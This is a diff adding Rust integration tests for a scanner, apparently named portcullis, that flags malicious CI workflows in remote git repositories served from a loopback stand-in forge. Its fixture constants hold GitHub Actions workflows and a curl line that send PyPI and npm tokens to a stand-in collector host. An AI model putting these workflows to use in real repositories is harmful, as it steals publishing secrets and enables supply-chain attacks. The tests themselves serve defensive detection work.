@@ -1,0 +1,345 @@
+//! `portcullis scan` of addresses: a stand-in of a forge on loopback hands out real repositories.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    clippy::string_slice,
+    clippy::panic,
+    reason = "a test fails by panicking"
+)]
+
+mod stand_in;
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use serde_json::Value;
+use stand_in::{StandIn, git};
+
+const BENIGN: &str =
+    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n";
+const PUBLISH: &str = "on: release\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with:\n          password: ${{ secrets.PYPI_API_TOKEN }}\n";
+const CALL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - env:\n          PYPI_API_TOKEN: ${{ secrets.PYPI_API_TOKEN }}\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: bash tools/send.sh\n";
+const SCRIPT: &str = "curl -s -d \"a=$PYPI_API_TOKEN&b=$NPM_TOKEN\" https://collector.example/in\n";
+const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
+
+fn portcullis(arguments: &[&str]) -> Output {
+    portcullis_with(arguments, &[])
+}
+
+fn portcullis_with(arguments: &[&str], environment: &[(&str, &str)]) -> Output {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
+    command.args(["scan", "--format", "json"]).args(arguments);
+    for name in
+        ["RUST_LOG", "GITHUB_TOKEN", "GITHUB_API_URL", "GITHUB_SERVER_URL", "GITLAB_TOKEN", "CI_SERVER_URL"]
+    {
+        command.env_remove(name);
+    }
+    // Nobody's git is needed, and nobody's proxy.
+    for name in ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "PATH"] {
+        command.env_remove(name);
+    }
+    command.envs(environment.iter().copied()).output().unwrap()
+}
+
+fn document(output: &Output) -> Value {
+    serde_json::from_slice(&output.stdout)
+        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
+}
+
+fn kinds(document: &Value) -> Vec<&str> {
+    document["problems"].as_array().unwrap().iter().map(|problem| problem["kind"].as_str().unwrap()).collect()
+}
+
+fn write(folder: &Path, path: &str, text: impl AsRef<[u8]>) {
+    let path = folder.join(path);
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, text).unwrap();
+}
+
+fn commit(folder: &Path, message: &str) -> String {
+    git(folder, &["add", "--all"]);
+    git(folder, &["commit", "--quiet", "--message", message]);
+    git(folder, &["rev-parse", "HEAD"])
+}
+
+/// A forge's folder with work trees that are pushed to it.
+struct Forge {
+    folder: tempfile::TempDir,
+}
+
+impl Forge {
+    fn new() -> Self {
+        Self { folder: tempfile::tempdir().unwrap() }
+    }
+
+    fn root(&self) -> PathBuf {
+        self.folder.path().join("served")
+    }
+
+    /// An empty repository on the server, and a work tree to push from.
+    fn create(&self, name: &str, filters: bool) -> PathBuf {
+        let bare = self.root().join(format!("{name}.git"));
+        std::fs::create_dir_all(&bare).unwrap();
+        git(&bare, &["init", "--quiet", "--bare", "--initial-branch=main"]);
+        git(&bare, &["config", "uploadpack.allowFilter", if filters { "true" } else { "false" }]);
+        let tree = self.folder.path().join("trees").join(name);
+        std::fs::create_dir_all(&tree).unwrap();
+        git(&tree, &["init", "--quiet", "--initial-branch=main"]);
+        git(&tree, &["remote", "add", "origin", bare.to_str().unwrap()]);
+        tree
+    }
+
+    /// The incident: a theft through a script, taken out again, on `main`; ordinary files beside it.
+    fn victim(&self, name: &str, filters: bool) -> PathBuf {
+        let tree = self.create(name, filters);
+        write(&tree, ".github/workflows/publish.yml", PUBLISH);
+        write(&tree, "pyproject.toml", "[project]\nname = \"fish\"\n");
+        write(&tree, "src/large.txt", "an ordinary line\n".repeat(20_000));
+        write(&tree, "README.md", "fish\n");
+        commit(&tree, "Start");
+        write(&tree, ".github/workflows/security.yml", CALL);
+        write(&tree, "tools/send.sh", SCRIPT);
+        commit(&tree, "Add security workflow");
+        git(&tree, &["rm", "--quiet", ".github/workflows/security.yml", "tools/send.sh"]);
+        commit(&tree, "Remove");
+        git(&tree, &["push", "--quiet", "origin", "main"]);
+        tree
+    }
+}
+
+fn blobs(tree: &Path, paths: &[(&str, &str)]) -> BTreeSet<String> {
+    paths.iter().map(|(commit, path)| git(tree, &["rev-parse", &format!("{commit}:{path}")])).collect()
+}
+
+#[test]
+fn a_remote_repository_is_scanned_and_only_what_the_scan_needs_is_fetched() {
+    let forge = Forge::new();
+    let tree = forge.victim("example-org/fish", true);
+    let server = StandIn::new(&forge.root(), |_| None);
+    let url = format!("{}/example-org/fish.git", server.url);
+    let output = portcullis(&[&url]);
+    let found = document(&output);
+    assert_eq!(output.status.code(), Some(1), "{found}");
+    let finding = found["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|finding| finding["verdict"] == "malicious")
+        .unwrap();
+    assert_eq!(finding["path"], ".github/workflows/security.yml");
+    assert_eq!(finding["repository"]["given"], Value::from(url));
+    assert_eq!(finding["repository"]["identity"], "127.0.0.1/example-org/fish");
+    assert_eq!(finding["exposures"][0]["refs"][0]["ref"], "refs/heads/main");
+    let pypi = finding["secrets"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|secret| secret["name"] == "PYPI_API_TOKEN")
+        .unwrap();
+    assert_eq!(pypi["used_for"][0]["package"], "fish", "{pypi}");
+    assert_eq!((&found["complete"], kinds(&found).as_slice()), (&Value::Bool(true), [].as_slice()));
+    assert_eq!(
+        (&found["stats"]["commits"], &found["stats"]["repositories"]),
+        (&Value::from(3), &Value::from(1))
+    );
+    let needed = blobs(
+        &tree,
+        &[
+            ("HEAD", ".github/workflows/publish.yml"),
+            ("HEAD~1", ".github/workflows/security.yml"),
+            ("HEAD~1", "tools/send.sh"),
+            ("HEAD", "pyproject.toml"),
+        ],
+    );
+    assert_eq!(server.handed_out("blob"), needed, "ordinary files stay on the server");
+    assert_eq!(server.handed_out("commit").len(), 3);
+}
+
+#[test]
+fn a_server_without_filters_sends_everything_within_the_bound() {
+    let forge = Forge::new();
+    forge.victim("example-org/fish", false);
+    let server = StandIn::new(&forge.root(), |_| None);
+    let url = format!("{}/example-org/fish.git", server.url);
+    let found = document(&portcullis(&[&url]));
+    assert_eq!(found["complete"], true, "{found}");
+    assert_eq!(found["findings"][0]["verdict"], "malicious");
+    let bytes = server.pack_bytes();
+    let at = portcullis(&["--max-fetch", &bytes.to_string(), &url]);
+    assert_eq!(at.status.code(), Some(1), "{}", String::from_utf8_lossy(&at.stderr));
+    let past = portcullis(&["--max-fetch", &(bytes - 1).to_string(), &url]);
+    assert_eq!(
+        (past.status.code(), kinds(&document(&past)).as_slice()),
+        (Some(2), ["over-limit"].as_slice())
+    );
+}
+
+#[test]
+fn references_of_requests_are_looked_at_and_are_foreign() {
+    for reference in ["refs/pull/7/head", "refs/merge-requests/7/head"] {
+        let forge = Forge::new();
+        let tree = forge.create("example-org/fish", true);
+        write(&tree, ".github/workflows/test.yml", BENIGN);
+        commit(&tree, "Start");
+        git(&tree, &["push", "--quiet", "origin", "main"]);
+        write(&tree, ".github/workflows/security.yml", STEAL);
+        commit(&tree, "Add");
+        git(&tree, &["push", "--quiet", "origin", &format!("HEAD:{reference}")]);
+        let server = StandIn::new(&forge.root(), |_| None);
+        let found = document(&portcullis(&[&format!("{}/example-org/fish.git", server.url)]));
+        assert_eq!(found["findings"][0]["verdict"], "malicious", "{found}");
+        assert_eq!(found["findings"][0]["standing"], "foreign", "{reference}");
+    }
+}
+
+#[test]
+fn commits_that_nothing_leads_to_are_fetched_by_their_id_or_missed_aloud() {
+    let forge = Forge::new();
+    let tree = forge.create("example-org/fish", true);
+    write(&tree, ".github/workflows/test.yml", BENIGN);
+    commit(&tree, "Start");
+    write(&tree, ".github/workflows/security.yml", STEAL);
+    let hidden = commit(&tree, "Add");
+    git(&tree, &["push", "--quiet", "origin", "main"]);
+    git(&tree, &["reset", "--quiet", "--hard", "HEAD~1"]);
+    git(&tree, &["push", "--quiet", "--force", "origin", "main"]);
+    let server = StandIn::new(&forge.root(), |_| None);
+    let url = format!("{}/example-org/fish.git", server.url);
+    let blind = document(&portcullis(&[&url]));
+    assert_eq!(
+        (&blind["findings"], &blind["complete"]),
+        (&Value::from(Vec::<Value>::new()), &Value::Bool(true))
+    );
+
+    let list = forge.folder.path().join("commits");
+    std::fs::write(&list, format!("{hidden}\n")).unwrap();
+    let list = list.to_str().unwrap();
+    let found = document(&portcullis(&["--commits", list, &url]));
+    assert_eq!(found["findings"][0]["verdict"], "malicious", "{found}");
+    assert_eq!(
+        (&found["complete"], found["findings"][0]["standing"].as_str()),
+        (&Value::Bool(true), Some("foreign"))
+    );
+
+    let gone = "1".repeat(40);
+    std::fs::write(list, format!("{hidden}\n{gone} 2026-02-03T04:05:06Z\n")).unwrap();
+    let found = document(&portcullis(&["--commits", list, &url]));
+    assert_eq!(
+        found["findings"][0]["verdict"], "malicious",
+        "one that is gone keeps no other from being had"
+    );
+    assert_eq!(
+        (&found["complete"], kinds(&found).as_slice()),
+        (&Value::Bool(false), ["history-incomplete"].as_slice())
+    );
+    let what = found["problems"][0]["what"].as_str().unwrap();
+    assert!(
+        what.starts_with("history-incomplete since 2026-02-03T04:05:06Z") && what.contains(&gone),
+        "{what}"
+    );
+}
+
+#[test]
+fn credentials_are_neither_sent_nor_shown() {
+    let forge = Forge::new();
+    forge.victim("example-org/fish", true);
+    let server = StandIn::new(&forge.root(), |_| None);
+    let url = format!("{}/example-org/fish.git", server.url).replace("http://", "http://mara:hunter2@");
+    let output =
+        portcullis_with(&[&url], &[("GITHUB_TOKEN", "ghp_example"), ("GITLAB_TOKEN", "glpat-example")]);
+    let text =
+        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    assert_eq!(output.status.code(), Some(1), "{text}");
+    assert!(!text.contains("hunter2") && !text.contains("mara:") && !text.contains("_example"), "{text}");
+    // A token belongs to its forge; this host is nobody's.
+    assert!(server.requests().iter().all(|request| !request.headers.contains_key("authorization")));
+
+    let missing = portcullis(&[&url.replace("fish.git", "other.git")]);
+    let text =
+        format!("{}{}", String::from_utf8_lossy(&missing.stdout), String::from_utf8_lossy(&missing.stderr));
+    assert_eq!(missing.status.code(), Some(2), "{text}");
+    assert!(!text.contains("hunter2") && text.contains("404"), "{text}");
+}
+
+#[test]
+fn nothing_is_asked_but_https_and_no_redirect_leads_elsewhere() {
+    for url in [
+        "http://forge.example/o/n.git",
+        "ssh://git@forge.example/o/n.git",
+        "file:///srv/n.git",
+        "https://10.0.0.1/o/n.git",
+    ] {
+        let output = portcullis(&[url]);
+        assert_eq!(output.status.code(), Some(2), "{url}");
+    }
+    let forge = Forge::new();
+    forge.victim("example-org/fish", true);
+    let target = StandIn::new(&forge.root(), |_| None);
+    let elsewhere = target.url.clone();
+    let first = StandIn::new(&forge.root(), move |request| {
+        Some(stand_in::Answer::status(302).with("Location", &format!("{elsewhere}{}", request.path)))
+    });
+    let output = portcullis(&[&format!("{}/example-org/fish.git", first.url)]);
+    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stdout));
+    assert_eq!(target.requests().len(), 0);
+}
+
+#[test]
+fn what_is_no_repository_is_said_to_be_none() {
+    let folder = tempfile::tempdir().unwrap();
+    let server = StandIn::new(folder.path(), |request| {
+        let kind = "application/x-git-upload-pack-advertisement";
+        match request.path.split('/').nth(1).unwrap() {
+            "page" => Some(stand_in::Answer::json(&Value::Null)),
+            "lines" => Some(
+                stand_in::Answer { body: b"zzzz".to_vec(), ..stand_in::Answer::status(200) }
+                    .with("Content-Type", kind),
+            ),
+            "old" => Some(
+                stand_in::Answer {
+                    body: b"001e# service=git-upload-pack\n0000000cversion 1\n0000".to_vec(),
+                    ..stand_in::Answer::status(200)
+                }
+                .with("Content-Type", kind),
+            ),
+            _ => None,
+        }
+    });
+    for (place, said) in [("page", "no git repository"), ("lines", "git's lines"), ("old", "version 2")] {
+        let output = portcullis(&[&format!("{}/{place}/n.git", server.url)]);
+        let text = String::from_utf8_lossy(&output.stderr).into_owned();
+        assert_eq!(output.status.code(), Some(2), "{text}");
+        assert!(text.contains(said), "{place}: {text}");
+    }
+}
+
+#[test]
+fn an_empty_repository_is_complete_and_clean() {
+    let forge = Forge::new();
+    forge.create("example-org/fish", true);
+    let server = StandIn::new(&forge.root(), |_| None);
+    let output = portcullis(&[&format!("{}/example-org/fish.git", server.url)]);
+    let found = document(&output);
+    assert_eq!((output.status.code(), &found["complete"]), (Some(0), &Value::Bool(true)), "{found}");
+}
+
+#[test]
+fn a_list_may_mix_folders_and_addresses() {
+    let forge = Forge::new();
+    let tree = forge.victim("example-org/fish", true);
+    let server = StandIn::new(&forge.root(), |_| None);
+    let list = forge.folder.path().join("list");
+    let url = format!("{}/example-org/fish.git", server.url);
+    std::fs::write(&list, format!("{url}\n{}\n", tree.display())).unwrap();
+    let found = document(&portcullis(&["--repositories", list.to_str().unwrap()]));
+    let given: BTreeSet<&str> = found["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|finding| finding["repository"]["given"].as_str().unwrap())
+        .collect();
+    assert_eq!(given, BTreeSet::from([url.as_str(), tree.to_str().unwrap()]));
+    assert_eq!(found["stats"]["repositories"], 2);
+}
